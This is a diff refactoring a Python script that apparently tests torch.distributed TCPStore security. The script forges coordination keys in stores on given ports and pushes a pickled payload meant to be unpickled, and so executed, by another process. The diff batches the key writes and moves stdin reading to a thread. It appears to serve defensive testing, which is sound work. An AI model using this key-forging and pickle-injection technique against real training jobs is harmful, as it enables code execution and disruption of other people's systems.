@@ -9,14 +9,15 @@ process that unpickles it. Keys that torch wrote itself are left alone (docs/slu
 import contextlib
 import datetime
 import encodings.idna  # noqa: F401  # not found once the rights are given up
+import itertools
 import json
 import os
 import pickle
-import select
 import socket
 import sys
+import threading
 import time
-from collections import Counter
+from collections import Counter, deque
 
 from torch.distributed import TCPStore
 
@@ -68,10 +69,9 @@ def forge(port: int, payload: bytes, found: Counter, forged: set[str]) -> None:
         values |= {f"claims/{number}": "0" for number in range(40)}
         values |= {"lockstep-faults/first": FAULT, "faults/first": FAULT, "stop": "5", "asks/end": "3"}
         values |= {"claims/next": "1000", "living/list": "[0]"}
-        for name, value in values.items():
-            forged.add(prefix + name)
-            store.set(prefix + name, value)
-        forged.add(f"{prefix}link/samples")
+        names = [prefix + name for name in values]
+        store.multi_set(names, list(values.values()))  # one request instead of 90
+        forged |= {*names, f"{prefix}link/samples"}
         store.queue_push(f"{prefix}link/samples", "[1, 64]")
     found["forged"] += 1
 
@@ -101,16 +101,18 @@ def disturb(port: int, found: Counter) -> bool:
 
 def main(path: str) -> None:
     give_up_rights()
-    payload, found, ports, held = pickle.dumps(Payload(path)), Counter(), [], []
+    payload, found, held = pickle.dumps(Payload(path)), Counter(), []
     rounds, stores, torch_stores, forged = Counter(), set(), set(), set()
     print("ready", flush=True)
-    while True:
-        if select.select([sys.stdin], [], [], 0)[0]:
-            line = sys.stdin.readline()
-            if not line:
-                break
-            ports = json.loads(line)
-        for port in ports:
+    newest, ended = deque([[]], maxlen=1), threading.Event()
+
+    def read() -> None:
+        newest.extend(map(json.loads, sys.stdin))
+        ended.set()
+
+    threading.Thread(target=read).start()
+    while not ended.is_set():
+        for port in itertools.takewhile(lambda _: not ended.is_set(), newest[0]):
             rounds[port] += 1
             if rounds[port] > ROUNDS and port not in stores | torch_stores:
                 continue
